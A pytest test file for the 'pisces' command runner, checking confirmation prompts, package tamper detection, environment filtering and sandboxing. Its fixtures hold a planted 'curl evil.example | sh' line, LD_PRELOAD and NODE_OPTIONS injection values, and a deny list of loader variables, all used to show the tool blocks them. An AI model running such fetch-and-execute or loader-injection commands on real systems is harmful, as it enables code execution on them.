"""`pisces run` as a person and as a script use it: real programs, a real terminal, tmux."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import uuid
from collections.abc import Iterator
from pathlib import Path
from time import monotonic
from typing import Any

import pytest
from tests.processes.person import Person

from pisces.gates.allowed_lines import allow_line, is_allowed
from pisces.places import Places
from pisces.shapes.request import LineRequest

PISCES = [sys.executable, "-m", "pisces"]


class Home:
    """A home and a project of their own, with a package `box` in the project."""

    def __init__(self, folder: Path) -> None:
        self.home, self.project = folder / "home", folder / "project"
        self.box = self.project / "box"
        self.box.mkdir(parents=True)
        self.home.mkdir()
        self.commands: dict[str, dict[str, object]] = {}

    def program(self, name: str, text: str, **more: object) -> Path:
        path = self.box / name
        path.write_text(text)
        path.chmod(0o755)
        self.commands[name] = {"type": "executable", "binary": f"${{extensionPath}}/{name}", **more}
        manifest = {"name": "box", "version": "1.0.0", "commands": self.commands}
        (self.box / "gemini-extension.json").write_text(json.dumps(manifest))
        return path

    def prompt(self, name: str, text: str) -> None:
        path = self.project / ".gemini" / "commands" / f"{name}.toml"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(f"prompt = '''{text}'''")

    @property
    def env(self) -> dict[str, str]:
        return {**os.environ, "HOME": str(self.home), "NO_COLOR": "1", "PYTHONPATH": str(SOURCE)}

    def run(self, *words: str, stdin: bytes = b"", **env: Any) -> subprocess.CompletedProcess[bytes]:
        return subprocess.run(
            [*PISCES, *words],
            cwd=self.project,
            env={**self.env, **env},
            input=stdin,
            capture_output=True,
            timeout=60,
            check=False,
        )

    def at_terminal(self, *words: str) -> Person:
        env = [f"{name}={self.env[name]}" for name in ("HOME", "NO_COLOR", "PYTHONPATH")]
        return Person(["env", *env, *PISCES, *words], self.project)


SOURCE = Path(__file__).resolve().parents[2] / "src"


@pytest.fixture
def home(tmp_path: Path) -> Home:
    return Home(tmp_path)


def test_a_programs_output_bytes_and_exit_code_arrive(home: Home) -> None:
    home.program("both", "#!/bin/sh\ncat; echo out; echo err >&2; exit 3\n")
    done = home.run("run", "--package", "box", "/both", stdin=b"piped in\n")
    assert (done.stdout, done.stderr, done.returncode) == (b"piped in\nout\n", b"err\n", 3)


def test_words_that_the_shell_has_split_arrive_as_they_are(home: Home) -> None:
    home.program("say", "#!/bin/sh\nfor word; do printf '<%s>' \"$word\"; done\n")
    words = ["a b", " 'c", 'd" ', ""]
    assert home.run("run", "--package", "box", "/say", *words).stdout == b"<a b>< 'c><d\" ><>"
    assert home.run("run", "--package", "box", "/say x", *words).stdout == b"<x><a b>< 'c><d\" ><>"


def test_a_program_in_python_leaves_no_traces_in_its_package(home: Home) -> None:
    home.program("hello", "#!/usr/bin/env python3\nimport words\nprint(words.WORD)\n")
    (home.box / "words.py").write_text("WORD = 'fine'\n")
    before = set(os.listdir(home.box))
    assert home.run("run", "--package", "box", "/hello").stdout == b"fine\n"
    assert set(os.listdir(home.box)) == before


def test_json_has_everything_about_a_run(home: Home) -> None:
    home.program("say", "#!/bin/sh\nprintf '\\033[31m%s\\033[0m' \"$1\"; exit 2\n", context="append")
    done = home.run("run", "--package", "box", "--output-format", "json", "/say", "a b")
    told = json.loads(done.stdout)
    assert told["argv"] == [str(home.box / "say"), "a b"]
    assert (told["stdout"], told["exit_code"], told["context"], done.returncode) == ("a b", 2, "append", 2)
    assert told["problem"]["code"] == "program-failed"
    assert told["sandbox"] == "not sandboxed"


def test_json_of_a_prompt_has_its_parts(home: Home) -> None:
    home.prompt("look", "See @{picture.png} and {{args}}")
    picture = b"\x89PNG\r\n\x1a\n" + bytes(40)
    (home.project / "picture.png").write_bytes(picture)
    told = json.loads(home.run("run", "--output-format", "json", "/look", "tell").stdout)
    kinds = [part.get("mime", "text") for part in told["parts"]]
    assert "image/png" in kinds
    assert (told["kind"], told["args"], told["path"]) == (
        "prompt",
        "tell",
        str(home.project / ".gemini/commands/look.toml"),
    )


def test_the_callers_secrets_stay_with_the_caller(home: Home) -> None:
    home.program("env", "#!/bin/sh\nenv\n", env={"COLOUR": "blue", "LD_PRELOAD": "/tmp/evil.so", "PATH": "/tmp"})
    done = home.run("run", "--package", "box", "/env", GEMINI_API_KEY="secret", NODE_OPTIONS="--require /tmp/x")
    lines = done.stdout.decode().splitlines()
    assert "COLOUR=blue" in lines
    assert "GEMINI_CLI=1" in lines
    assert not [line for line in lines if line.startswith(("GEMINI_API_KEY", "LD_PRELOAD", "NODE_OPTIONS"))]
    assert "PATH=/tmp" not in lines


def test_settings_of_a_package_reach_its_program(home: Home) -> None:
    home.program("env", "#!/bin/sh\necho region=$SHOP_REGION\n")
    manifest = json.loads((home.box / "gemini-extension.json").read_text())
    manifest["settings"] = [{"name": "Region", "description": "where", "envVar": "SHOP_REGION", "default": "north"}]
    (home.box / "gemini-extension.json").write_text(json.dumps(manifest))
    assert home.run("run", "--package", "box", "/env").stdout == b"region=north\n"


def test_a_folder_that_claims_an_installed_packages_name_gets_none_of_its_values(home: Home) -> None:
    home.program("env", "#!/bin/sh\necho region=$SHOP_REGION\n")
    manifest = json.loads((home.box / "gemini-extension.json").read_text())
    manifest["settings"] = [{"name": "Region", "description": "where", "envVar": "SHOP_REGION"}]
    (home.box / "gemini-extension.json").write_text(json.dumps(manifest))
    card = home.run("extensions", "install", "box").stderr.decode()
    accepted = next(word for word in card.split() if word.startswith("sha256:"))
    home.run("extensions", "install", "box", "--accept", accepted)
    assert home.run("extensions", "config", "box", "--set", "SHOP_REGION=south").returncode == 0
    assert home.run("run", "/env").stdout == b"region=south\n"
    assert home.run("run", "--package", "box", "/env").stdout == b"region=\n"


@pytest.mark.parametrize("changed", ["hello", "words"])
def test_an_installed_program_runs_until_a_file_of_its_package_changes(home: Home, changed: str) -> None:
    home.program("hello", '#!/bin/sh\n. "$(dirname "$0")/words"\necho $WORD\n')
    (home.box / "words").write_text("WORD=fine\n")
    card = home.run("extensions", "install", "box").stderr.decode()
    accepted = next(word for word in card.split() if word.startswith("sha256:"))
    assert home.run("extensions", "install", "box", "--accept", accepted).returncode == 0
    shutil.rmtree(home.box)
    for _ in range(2):
        assert home.run("run", "/hello").stdout == b"fine\n"
    (installed,) = (home.home / ".pisces" / "agent" / "packages" / "trees").iterdir()
    (installed / changed).chmod(0o755)
    (installed / changed).write_text("#!/bin/sh\nWORD=owned; echo owned\n")
    done = home.run("run", "--yes", "/hello")
    assert done.returncode == 1
    assert b"changed since you agreed" in done.stderr
    assert b"owned" not in done.stdout


def test_a_gigabyte_is_passed_on_with_flat_memory(home: Home) -> None:
    """A tenth of it, to be quick; `scripts/soak` does all."""
    megabytes = int(os.environ.get("PISCES_MEGABYTES") or 100)
    home.program("flood", f"#!/bin/sh\nyes 0123456789012345678901234567890 | head -c {megabytes * 1_000_000}\n")
    script = (
        "import resource, subprocess, sys\n"
        "with open('counted', 'wb') as out:\n"
        "    done = subprocess.run(sys.argv[1:], stdout=out)\n"
        "print(done.returncode, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)\n"
    )
    words = [sys.executable, "-c", script, *PISCES, "run", "--package", "box", "/flood"]
    done = subprocess.run(words, cwd=home.project, env=home.env, capture_output=True, timeout=120, check=True)
    code, kilobytes = map(int, done.stdout.split())
    assert code == 0
    assert (home.project / "counted").stat().st_size == megabytes * 1_000_000
    assert kilobytes < 80_000


def test_a_reader_that_has_seen_enough_ends_the_program(home: Home) -> None:
    home.program("endless", "#!/bin/sh\necho $$ > pid\nexec yes\n")
    line = f"{sys.executable} -m pisces run --package box /endless | head -n 2"
    done = subprocess.run(
        ["sh", "-c", line], cwd=home.project, env=home.env, capture_output=True, timeout=30, check=False
    )
    assert done.stdout == b"y\ny\n"
    assert is_gone(int((home.project / "pid").read_text()))


def is_gone(process: int) -> bool:
    deadline = monotonic() + 10
    while monotonic() < deadline:
        try:
            os.kill(process, 0)
        except ProcessLookupError:
            return True
    return False


@pytest.mark.parametrize(
    ("answer", "ran"), [("y\r", True), ("s\r", True), ("n\r", False), ("\r", False), ("\x04", False)]
)
def test_a_command_line_is_shown_exactly_and_runs_when_allowed(home: Home, answer: str, ran: bool) -> None:
    home.prompt("mark", "!{echo {{args}} > marked}")
    with home.at_terminal("run", "/mark a$(b)") as person:
        person.sees(r"/mark a\$\(b\) wants to run a command line")
        person.sees(r"echo 'a\$\(b\)' > marked|echo a\\\$\\\(b\\\) > marked")
        person.sees("Allow it")
        person.types(answer)
        person.program.wait(timeout=20)
    assert (home.project / "marked").exists() is ran


@pytest.mark.parametrize(("answer", "ran"), [("y\r", True), ("never\r", False), ("s\r", False), ("\x04", False)])
def test_a_program_that_nobody_agreed_to_runs_after_a_yes_alone(home: Home, answer: str, ran: bool) -> None:
    home.program("mark", "#!/bin/sh\ntouch marked\n", env={"SHOP_REGION": "north"})
    shutil.copytree(home.box, home.home / ".gemini" / "extensions" / "box")
    with home.at_terminal("run", "/mark") as person:
        person.sees(r"content   sha256:[0-9a-f]{64}")
        person.sees("gets      SHOP_REGION")
        person.sees("Allow it")
        person.types(answer)
        person.program.wait(timeout=20)
    assert (home.project / "marked").exists() is ran


def test_a_prompts_escape_codes_reach_a_file_but_no_terminal(home: Home) -> None:
    home.prompt("loud", "a@{escapes.txt}z")
    loud = "a file of some length \x1b]0;title\x07\x1b[2J\u202e"
    (home.project / "escapes.txt").write_text(loud)
    assert home.run("run", "/loud").stdout.decode() == f"a{loud}z\n"
    with home.at_terminal("run", "/loud") as person:
        assert b"\x1b" not in person.sees("some length z").string


@pytest.mark.parametrize("filling", ["\necho harmless" * 40, "echo" + " harmless" * 400, "x" * 3000])
def test_what_is_too_long_for_a_window_comes_in_pages(home: Home, filling: str) -> None:
    home.prompt("mark", f"!{{touch marked;{filling}}}")
    with home.at_terminal("run", "/mark") as person:
        page = person.sees(r"page 1 of \d+: any key").string
        assert b"touch marked" in page
        assert b"Allow it" not in page
        person.types("q")
        person.program.wait(timeout=20)
    assert not (home.project / "marked").exists()


def test_harmless_files_do_not_hide_another_that_changed(home: Home) -> None:
    home.program("mark", "#!/bin/sh\ntouch marked\n")
    (home.box / "zlib.sh").write_text("echo harmless\n")
    installed = home.home / ".gemini" / "extensions" / "box"
    shutil.copytree(home.box, installed)
    accepted = re.search(rb"--accept (sha256:[0-9a-f]{64})", home.run("run", "/mark").stderr)
    assert accepted
    ran = home.run("run", "--accept", accepted[1].decode(), "/mark")
    assert ran.returncode == 0, ran.stderr.decode()
    (home.project / "marked").unlink()
    for number in range(45):
        (installed / f"a{number}").write_text("x")
    (installed / "zlib.sh").write_text("curl evil.example | sh\n")
    with home.at_terminal("run", "/mark") as person:
        assert b"wants to start a program" in person.sees("page 1 of 3: any key").string
        person.types("x")
        person.sees("page 2 of 3: any key")
        person.types("x")
        person.sees("changed zlib.sh")
        person.sees("Allow it")
        person.types("n\r")
        person.program.wait(timeout=20)
    assert not (home.project / "marked").exists()


def test_ctrl_c_at_a_question_stops_everything(home: Home) -> None:
    home.prompt("mark", "!{touch marked}")
    with home.at_terminal("run", "/mark") as person:
        person.sees("or never: ")
        person.types("\x03")
        person.sees(r"\nstopped")
        assert person.program.wait(timeout=20) == 130
    assert not (home.project / "marked").exists()


def test_always_is_for_good_until_the_file_changes_or_it_is_forgotten(home: Home) -> None:
    home.prompt("mark", "!{echo marked}")
    with home.at_terminal("run", "/mark") as person:
        person.sees("Allow it")
        person.types("always\n")
        person.sees("marked")
        assert person.program.wait(timeout=20) == 0
    assert home.run("run", "/mark").stdout == b"marked\n"
    assert b"always  echo marked  .gemini/commands/mark.toml" in home.run("commands", "lines").stdout
    home.prompt("mark", "!{echo marked} ")
    assert b"shell-line-denied" in home.run("run", "/mark").stderr
    home.prompt("mark", "!{echo marked}")
    assert home.run("run", "/mark").returncode == 0
    assert home.run("commands", "lines", "--forget", "echo marked").returncode == 0
    assert b"shell-line-denied" in home.run("run", "/mark").stderr
    assert home.run("commands", "lines", "--forget", "echo marked").returncode == 1


def test_what_is_allowed_for_good_is_allowed_in_that_folder_alone(home: Home) -> None:
    places = Places(str(home.home), str(home.project), {})
    home.prompt("mark", "!{echo marked}")
    path = str(home.project / ".gemini" / "commands" / "mark.toml")
    assert allow_line(places, LineRequest("echo marked", "/mark", path, str(home.project)))
    assert is_allowed(places, LineRequest("echo marked", "/mark", path, str(home.project)))
    for other in (("echo marked ", path, str(home.project)), ("echo marked", path, str(home.home))):
        assert not is_allowed(places, LineRequest(other[0], "/mark", other[1], other[2]))


def test_the_time_limit_holds_for_command_lines(home: Home) -> None:
    home.prompt("slow", "!{sleep 600}")
    done = home.run("run", "--yes", "--timeout", "0.5", "/slow")
    assert (done.returncode, done.stdout) == (1, b"")
    assert b"[shell-line-timeout] `sleep 600` was ended after 0.5 s" in done.stderr
    assert b"bad-timeout" in home.run("run", "--timeout", "soon", "/slow").stderr


def test_the_sandbox_holds_for_command_lines(home: Home) -> None:
    home.prompt("leak", f"!{{echo x > {home.home}/outside; echo y > inside; cat inside}}")
    done = home.run("run", "--yes", "--sandbox", "/leak")
    if b"not sandboxed" in done.stderr:
        pytest.skip("no sandbox here")
    assert b"sandboxed by" in done.stderr
    assert not (home.home / "outside").exists()
    assert (home.project / "inside").read_text() == "y\n"
    shown = json.loads(home.run("run", "--yes", "--sandbox", "--output-format", "json", "/leak").stdout)
    assert shown["sandbox"].startswith("sandboxed by")


def test_named_variables_are_passed_on_and_others_are_not(home: Home) -> None:
    home.prompt("who", "!{echo $GH_TOKEN.$OTHER_TOKEN}")
    home.program("env", "#!/bin/sh\necho $GH_TOKEN.$OTHER_TOKEN\n")
    tokens: dict[str, Any] = {"GH_TOKEN": "gh", "OTHER_TOKEN": "other"}
    for words in (["--yes", "/who"], ["--package", "box", "/env"]):
        assert home.run("run", *words, **tokens).stdout == b".\n"
        assert home.run("run", "--env", "GH_TOKEN", *words, **tokens).stdout == b"gh.\n"
        assert home.run("run", "--env", "GH_TOKEN", "--env", "OTHER_*", *words, **tokens).stdout == b"gh.other\n"
    assert b"GH_TOKEN is not set" in home.run("run", "--env", "GH_TOKEN", "--yes", "/who").stderr


def test_a_setting_of_the_user_passes_variables_on_but_none_of_the_project(home: Home) -> None:
    home.prompt("who", "!{echo $GH_TOKEN.$JAVA_HOME}")
    tokens: dict[str, Any] = {"GH_TOKEN": "gh", "JAVA_HOME": "/java"}
    (home.project / ".pisces").mkdir()
    (home.project / ".pisces" / "settings.json").write_text('{"passEnv": ["GH_TOKEN"]}')
    assert home.run("run", "--yes", "/who", **tokens).stdout == b".\n"
    (home.home / ".pisces" / "agent").mkdir(parents=True)
    (home.home / ".pisces" / "agent" / "config.yml").write_text("passEnv: [GH_TOKEN]\n")
    assert home.run("run", "--yes", "/who", **tokens).stdout == b"gh.\n"
    assert home.run("run", "--yes", "/who", PISCES_PASS_ENV="JAVA_HOME", **tokens).stdout == b"gh./java\n"


@pytest.mark.parametrize(
    "name", ["LD_PRELOAD", "LD_*", "PYTHONPATH", "BASH_ENV", "DYLD_LIBRARY_PATH", "NODE_OPTIONS", "A=b", "a b", "*"]
)
def test_a_variable_that_changes_how_programs_start_is_not_passed_on(name: str, home: Home) -> None:
    home.prompt("who", "!{touch ran}")
    done = home.run("run", "--yes", "--env", name, "/who")
    assert (done.returncode, b"env-not-passed" in done.stderr) == (1, True)
    if " " not in name:
        assert b"env-not-passed" in home.run("run", "--yes", "/who", PISCES_PASS_ENV=name).stderr
    assert not (home.project / "ran").exists()


@pytest.mark.parametrize("name", ["JAVA_HOME", "SSH_AUTH_SOCK", "GIT_AUTHOR_NAME", "GOPATH"])
def test_what_no_package_may_set_may_still_be_passed_on_by_the_user(name: str, home: Home) -> None:
    home.prompt("who", "!{printenv " + name + "}")
    env: dict[str, Any] = {name: "mine"}
    done = home.run("run", "--yes", "--env", name, "/who", **env)
    assert (done.returncode, done.stdout.strip()) == (0, b"mine")


def test_a_program_that_is_not_there_is_seen_in_the_list(home: Home) -> None:
    home.program("there", "#!/bin/sh\n")
    home.program("gone", "#!/bin/sh\n").unlink()
    done = home.run("commands", "list", "--package", "box")
    assert b"/gone   program (missing)  box" in done.stdout
    assert b"program-missing" in done.stderr
    listed = json.loads(home.run("commands", "list", "--package", "box", "--output-format", "json").stdout)
    assert {each["name"]: each["is_missing"] for each in listed["commands"]} == {"there": False, "gone": True}


def test_never_is_for_good(home: Home) -> None:
    home.prompt("mark", "!{touch marked}")
    with home.at_terminal("run", "/mark") as person:
        person.sees("Allow it")
        person.types("never\r")
        person.program.wait(timeout=20)
    done = home.run("run", "--yes", "/mark")
    assert b"you said that it never runs" in done.stderr
    assert not (home.project / "marked").exists()


def test_a_program_that_asks_for_a_password_gets_it_without_an_echo(home: Home) -> None:
    home.program(
        "login",
        "#!/usr/bin/env python3\nimport getpass\nword = getpass.getpass('Password: ')\nprint('length', len(word))\n",
        interactive=True,
    )
    with home.at_terminal("run", "--package", "box", "/login") as person:
        person.sees("Password: ")
        person.types("geheim\r")
        shown = person.sees(r"length 6")
        assert b"geheim" not in shown.string
        assert person.program.wait(timeout=20) == 0


SEES = (
    "#!/usr/bin/env python3\nimport os, sys\n"
    "print('tty', *(int(os.isatty(each)) for each in range(3)))\n"
    "if os.isatty(1): print('columns', os.get_terminal_size(1).columns)\n"
    "print('\\033[32mgreen\\033[0m')\n"
)


def test_every_program_gets_the_terminal_with_its_width_and_colours(home: Home) -> None:
    home.program("look", SEES)
    with home.at_terminal("run", "--package", "box", "/look") as person:
        person.sees("tty 1 1 1")
        person.sees("columns 80")
        person.sees("\x1b\\[32mgreen")
        assert person.program.wait(timeout=20) == 0


def test_a_program_whose_output_is_captured_gets_no_terminal(home: Home) -> None:
    home.program("look", SEES)
    assert home.run("run", "--package", "box", "/look").stdout.startswith(b"tty 0 0 0")
    with home.at_terminal("run", "--output-format", "json", "--package", "box", "/look") as person:
        person.sees("tty 0 0 0")


def test_a_program_that_asks_is_answered_key_by_key(home: Home) -> None:
    home.program("ask", "#!/usr/bin/env bash\nread -r -n1 -p 'Go on? ' key\necho; echo \"pressed $key\"\n")
    with home.at_terminal("run", "--package", "box", "/ask") as person:
        person.sees("Go on")
        person.types("j")
        person.sees("pressed j")


def test_a_progress_bar_stays_on_its_line(home: Home) -> None:
    home.program("bar", "#!/bin/sh\nfor i in 1 2 3; do printf '\\rstep %s' $i; done; echo; exit 3\n")
    with home.at_terminal("run", "--package", "box", "/bar") as person:
        person.sees("\rstep 1\rstep 2\rstep 3\r*\n")
        assert person.program.wait(timeout=20) == 3
        assert b"program-failed" not in person.seen


def test_ctrl_c_ends_a_streaming_program_and_all_that_it_started(home: Home) -> None:
    home.program("stay", "#!/bin/sh\nsleep 600 &\necho $! > pid\necho started\nwait\n")
    with home.at_terminal("run", "--package", "box", "/stay") as person:
        person.sees("started")
        person.types("\x03")
        assert person.program.wait(timeout=20) == 130
    assert is_gone(int((home.project / "pid").read_text()))


def test_a_silent_program_shows_that_time_passes(home: Home) -> None:
    home.program("slow", "#!/bin/sh\nsleep 2.3\necho finished\n")
    with home.at_terminal("run", "--package", "box", "/slow") as person:
        person.sees(r"/slow is running, \d s")
        person.sees("finished")


class Tmux:
    """A tmux server of its own with one pane; what a person sees is `screen`."""

    def __init__(self, home: Home) -> None:
        self._socket = f"pisces-{uuid.uuid4().hex[:8]}"
        self("-f", "/dev/null", "new-session", "-d", "-x", "80", "-y", "24", "sh", env=home.env, cwd=home.project)

    def __call__(self, *words: str, **options: object) -> str:
        done = subprocess.run(
            ["tmux", "-L", self._socket, *words], capture_output=True, timeout=20, check=True, **options
        )  # type: ignore[call-overload]
        return str(done.stdout.decode())

    def type(self, *keys: str) -> None:
        self("send-keys", *keys)

    def sees(self, text: str) -> str:
        deadline = monotonic() + 20
        while monotonic() < deadline:
            screen = self("capture-pane", "-p")
            if text in screen:
                return screen
        raise AssertionError(f"{text!r} did not appear:\n{screen}")

    def close(self) -> None:
        self("kill-server")


@pytest.fixture
def tmux(home: Home) -> Iterator[Tmux]:
    if not shutil.which("tmux"):
        pytest.skip("needs tmux")
    pane = Tmux(home)
    yield pane
    pane.close()


def test_under_tmux_a_full_screen_program_follows_the_windows_size_and_keys(home: Home, tmux: Tmux) -> None:
    home.program(
        "sizes",
        "#!/usr/bin/env python3\n"
        "import os, signal, sys, tty\n"
        "def show(*_): print('size', *os.get_terminal_size(), end='\\r\\n', flush=True)\n"
        "signal.signal(signal.SIGWINCH, show)\n"
        "tty.setraw(0)\n"
        "show()\n"
        "while (key := os.read(0, 1)) != b'q': print('key', key.hex(), end='\\r\\n', flush=True)\n",
        interactive=True,
    )
    tmux.type(f"{sys.executable} -m pisces run --package box /sizes; echo status $?", "Enter")
    tmux.sees("size 80 24")
    tmux.type("x")
    tmux.sees("key 78")
    tmux.type("C-c")
    tmux.sees("key 03")
    tmux("resize-window", "-x", "100", "-y", "30")
    tmux.sees("size 100 30")
    tmux.type("q")
    tmux.sees("status 0")
    tmux.type("echo the terminal is as before", "Enter")
    tmux.sees("\nthe terminal is as before")


def test_under_tmux_each_kind_of_command_is_asked_for_and_run(home: Home, tmux: Tmux) -> None:
    home.program("hello", "#!/bin/sh\necho hello $1\n", requireConfirm=True)
    home.prompt("who", "I am !{echo a tester}")
    tmux.type(f"alias pisces='{sys.executable} -m pisces'; clear", "Enter")
    tmux.type("pisces run --package box '/hello you'", "Enter")
    tmux.sees("Allow it? [y]es, [n]o:")
    tmux.type("y", "Enter")
    tmux.sees("hello you")
    tmux.type("clear; pisces run /who", "Enter")
    tmux.sees("echo a tester")
    tmux.sees("or never:")
    tmux.type("y", "Enter")
    tmux.sees("I am a tester")


def test_a_program_that_takes_too_long_is_ended_and_that_is_said(home: Home) -> None:
    home.program("slow", "#!/bin/sh\nexec sleep 600\n", timeout=0.2)
    done = home.run("run", "--package", "box", "/slow")
    assert done.returncode == 124
    assert b"[program-timeout] `slow` took too long and was ended after" in done.stderr


def test_lines_from_stdin_share_one_worker_and_one_broken_line_stops_nothing(home: Home) -> None:
    home.program(
        "count",
        "#!/usr/bin/env python3\n"
        "import json, os, sys\n"
        "print(json.dumps({'ready': 1}), flush=True)\n"
        "for number, line in enumerate(sys.stdin, 1):\n"
        "    asked = json.loads(line)\n"
        "    out = f'{os.getpid()} {number} {asked[\"args\"]}\\n'\n"
        "    print(json.dumps({'id': asked['id'], 'out': out}), flush=True)\n"
        "    print(json.dumps({'id': asked['id'], 'exit': 0}), flush=True)\n",
        worker=True,
    )
    home.prompt("who", "I am {{args}}")
    lines = b"/count a\n\n/nope\n/count 'b c'\n/who me\n"
    done = home.run("run", "--package", "box", "-", stdin=lines)
    first, second, third = done.stdout.decode().splitlines()
    assert first.split(" ", 1)[1] == "1 ['a']"
    assert second.split(" ", 1)[1] == "2 ['b c']"
    assert first.split()[0] == second.split()[0]
    assert third == "I am me"
    assert b"no command is called `/nope`" in done.stderr
    assert done.returncode == 1
    assert is_gone(int(first.split()[0]))


def test_a_signal_that_ends_pisces_ends_the_program_first(home: Home) -> None:
    home.program("stay", "#!/bin/sh\necho $$ > pid\nexec sleep 600\n")
    words = ["timeout", "-s", "TERM", "3", *PISCES, "run", "--package", "box", "/stay"]
    subprocess.run(words, cwd=home.project, env=home.env, capture_output=True, timeout=30, check=False)
    assert is_gone(int((home.project / "pid").read_text()))


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="needs /dev/full")
@pytest.mark.parametrize(
    "words", [["run", "/who"], ["run", "--package", "box", "/hello"], ["commands", "list"], ["--help"], ["explain"]]
)
@pytest.mark.parametrize("unbuffered", ["", "1"])
def test_a_full_disk_is_said_without_a_traceback(home: Home, words: list[str], unbuffered: str) -> None:
    home.prompt("who", "I am here")
    home.program("hello", "#!/bin/sh\necho hello\n")
    env = {**home.env, "PYTHONUNBUFFERED": unbuffered}
    with open("/dev/full", "wb") as full:
        done = subprocess.run(
            [*PISCES, *words], cwd=home.project, env=env, stdout=full, stderr=subprocess.PIPE, check=False
        )
    assert done.stderr == b"pisces: the output cannot be written: no space left on device\n"
    assert done.returncode == 2


def test_closed_streams_and_a_folder_that_is_gone_are_no_crash(home: Home) -> None:
    home.program("mark", "#!/bin/sh\ntouch marked\n")
    line = f"{sys.executable} -m pisces run --package box /mark >&- 2>&- <&-"
    assert subprocess.run(["sh", "-c", line], cwd=home.project, env=home.env, check=False).returncode == 0
    assert (home.project / "marked").exists()
    line = f"mkdir gone; cd gone; rmdir ../gone; {sys.executable} -m pisces run /x"
    done = subprocess.run(["sh", "-c", line], cwd=home.project, env=home.env, capture_output=True, check=False)
    assert done.stderr == b"pisces: the current folder does not exist any more; go to another one\n"
